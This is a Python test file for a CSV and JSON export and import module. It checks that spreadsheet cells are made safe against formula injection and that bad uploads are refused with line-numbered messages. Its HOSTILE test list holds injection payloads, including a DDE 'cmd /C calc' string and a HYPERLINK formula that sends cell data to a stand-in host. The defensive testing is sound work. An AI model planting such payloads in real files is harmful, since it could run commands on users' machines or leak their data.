"""Tables leave without formulas and come back as they were; somebody's CSV is read, or refused in a sentence."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from doorframe.adapters.export.tables import (
    LARGEST_FILE,
    Column,
    csv_bytes,
    harmless,
    json_bytes,
    plain,
    read_csv,
)

HOSTILE = [
    "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b@x", "＝1+1",
    "－2+3", "＋1", "＠A1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test?x="&A1)', "'=1", "''=1", "a;=1+1",
    "a\n=1+1", "a\t@x", "x\r\n+1", ";-1", "a; '=1", "\x00=1", '";=1', "-", "'",
]  # fmt: skip
HARMLESS = ["Ana Lima", "'t Hooft", "O'Neill", "a=b", "one - two", "me@example.test", "", "1", "“=1”", "a, -b", "☃"]
FORMULA = tuple("=+-@＝＋－＠")

pieces = st.sampled_from(
    ["=", "+", "-", "@", "'", ";", "\t", "\r", "\n", " ", "\ufeff", '"', ",", "a", "１", "＝", "\x00"]
)
texts = st.one_of(st.text(), st.lists(pieces, max_size=8).map("".join))


def starts(text: str) -> bool:
    return text.lstrip(" \u00a0\u200b\u2060\ufeff\x00").startswith(FORMULA)


def runs_anywhere(text: str) -> bool:
    """Whether a spreadsheet could begin a formula in this cell, whatever separator it expects."""
    parts = [text]
    for sign in ";\t\r\n":
        parts = [piece for part in parts for piece in part.split(sign)]
    return any(starts(part) for part in parts) or text[:1] in ("\t", "\r", "\n")


@pytest.mark.promise("D4")
@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_no_cell_is_a_formula(text: str) -> None:
    assert not runs_anywhere(harmless(text)), harmless(text)
    assert plain(harmless(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text == plain(text)


@pytest.mark.promise("D4")
@given(texts)
@example("\n'\n=")
@example(";'';=")
def test_any_text_is_harmless_and_comes_back(text: str) -> None:
    assert not runs_anywhere(harmless(text))
    assert plain(harmless(text)) == text


def test_an_unmarked_cell_would_be_found() -> None:
    assert all(runs_anywhere(text) for text in HOSTILE if "'" not in text.replace("' /C", ""))


@pytest.mark.promise("D4")
@given(st.lists(st.tuples(texts, st.integers()), max_size=5))
def test_a_table_comes_back_from_csv(rows: list[tuple[str, int]]) -> None:
    data = csv_bytes(["name", "count"], rows)
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[0] == ["name", "count"]
    assert [(plain(name), int(count)) for name, count in read[1:]] == rows


def test_known_bytes() -> None:
    row = [
        "=1",
        -5,
        Decimal("-2.50"),
        True,
        None,
        date(2026, 11, 21),
        datetime(2026, 11, 21, 9, 30, tzinfo=UTC),
        'a "b"',
    ]
    data = csv_bytes(["a", "b", "c", "d", "e", "f", "g", "h"], [row])
    assert data == (
        b'\xef\xbb\xbf"a","b","c","d","e","f","g","h"\r\n'
        b'"\'=1",-5,-2.50,"yes",,"2026-11-21","2026-11-21T09:30:00+00:00","a ""b"""\r\n'
    )


def test_a_header_is_made_harmless_too() -> None:
    assert csv_bytes(["=1"], []) == b'\xef\xbb\xbf"\'=1"\r\n'


@pytest.mark.parametrize("rows", [[["a"]], [["a", "b", "c"]], [[Decimal("NaN"), "b"]]])
def test_a_row_that_does_not_fit_is_refused(rows: list[list[str]]) -> None:
    with pytest.raises(ValueError, match=r"row 1 has|no number"):
        csv_bytes(["a", "b"], rows)


def test_json_reads_back() -> None:
    value = {"name": "Zoë", "rows": [1, None, True, "=1"]}
    assert json.loads(json_bytes(value)) == value
    assert "Zoë".encode() in json_bytes(value)
    with pytest.raises(ValueError, match="Out of range"):
        json_bytes(float("nan"))


# Reading

COLUMNS = (Column("code", required=True, also=("client id",), longest=20), Column("name"), Column("status"))


def read(text: str, encoding: str = "utf-8") -> tuple[list[tuple[int, str, str, str]], list[str]]:
    rows, problems = read_csv(text.encode(encoding), COLUMNS)
    return [(row.line, *row.cells.values()) for row in rows], [one.sentence for one in problems]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_every_usual_file_is_read(encoding: str, delimiter: str, end: str) -> None:
    lines = [["Code", "NAME", "Status"], ["A1", "Zoë Müller", "current"], ["A2", '"Lima; Ana, ""Bo"""', ""]]
    text = end.join(delimiter.join(line) for line in lines) + end
    assert read(text, encoding) == ([(2, "A1", "Zoë Müller", "current"), (3, "A2", 'Lima; Ana, "Bo"', "")], [])


def test_what_we_wrote_we_read() -> None:
    data = csv_bytes(["code", "name", "status"], [["-7", "=Ana\n+Bo", None]])
    (row,), problems = read_csv(data, COLUMNS)
    assert (row.cells, problems) == ({"code": "-7", "name": "=Ana\n+Bo", "status": ""}, [])


def test_other_names_and_lines_over_several_lines() -> None:
    rows, problems = read('sep=;\nClient_ID;name\nA1;"two\nlines"\n\nA2;x\n')
    assert rows == [(3, "A1", "two\nlines", ""), (6, "A2", "x", "")]
    assert problems == []


@pytest.mark.parametrize(
    ("text", "rows", "sentence"),
    [
        ("", 0, "This file is empty."),
        ("\n\n", 0, "This file is empty."),
        ("name\nAna\n", 0, "There is no column “code”"),
        ("code,Code\nA,B\n", 0, "The column “Code” stands twice"),
        ("code,client id\nA,B\n", 0, "The column “client id” stands twice"),
        ("code,shoe\nA,44\n", 1, "The column “shoe” is not known and is left out"),
        ("code,name\n,Ana\nA2,Bo\n", 1, "Line 2: “code” is empty"),
        ("code,name\nA,Ana,Lima\nB,Bo\n", 1, "Line 2 has more cells than the first line"),
        ("code,name\nA,Ana\nB,x\x00y\n", 1, "Line 3 holds a character that no text has"),
        ("code,name\nA,Ana\n\nB," + "x" * 501 + "\n", 1, "Line 4: “name” is longer than 500 letters"),
        ('code,name\nA,Ana\nB,"open\nC,Cy\n', 1, "Line 3: the quotation marks do not fit"),
        ('code,name\nA,"a"b\n', 0, "Line 2: the quotation marks do not fit"),
        ("code,name\nA," + "x" * 200_000 + "\n", 0, "Line 2"),
    ],
)
def test_what_cannot_be_read_is_said_with_its_line(text: str, rows: int, sentence: str) -> None:
    found, problems = read(text)
    assert len(found) == rows
    assert [one.startswith(sentence) for one in problems] == [True], problems


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b"PK\x03\x04 a workbook", "This is a spreadsheet file"),
        (b"\xd0\xcf\x11\xe0 an old one", "This is a spreadsheet file"),
        (b"\xff\xfeA", "The letters of this file cannot be read"),
        (b"\xef\xbb\xbfcode\n\xff\xff\n", "The letters of this file cannot be read"),
        (b"code\n" + b"A\n" * (LARGEST_FILE // 2), "This file is larger than 10 MB"),
        (b"code\n" + b"A\n" * 50_001, "This file has more than 50000 rows"),
    ],
)
def test_a_file_that_is_none_is_refused_in_a_sentence(data: bytes, sentence: str) -> None:
    rows, problems = read_csv(data, COLUMNS)
    assert rows == []
    assert [one.sentence.startswith(sentence) for one in problems] == [True]


def test_a_hundred_problems_are_not_a_hundred_lines() -> None:
    rows, problems = read("code,name\n" + ",Ana\n" * 100)
    assert rows == []
    assert (len(problems), problems[-1]) == (51, "There are 50 more problems of this kind.")


@given(st.binary(max_size=300))
def test_any_bytes_give_rows_or_sentences(data: bytes) -> None:
    rows, problems = read_csv(data, COLUMNS)
    assert all(one.sentence.endswith(".") for one in problems)
    assert all(row.cells["code"] for row in rows)


@given(st.lists(st.lists(texts, min_size=1, max_size=4), max_size=5))
def test_any_table_is_read_without_a_fault(rows: list[list[str]]) -> None:
    text = "code,name,status\n" + "\n".join(",".join(row) for row in rows)
    found, problems = read_csv(text.encode("utf-8", "surrogatepass"), COLUMNS)
    assert all(set(row.cells) == {"code", "name", "status"} for row in found)
    assert len(problems) <= 51
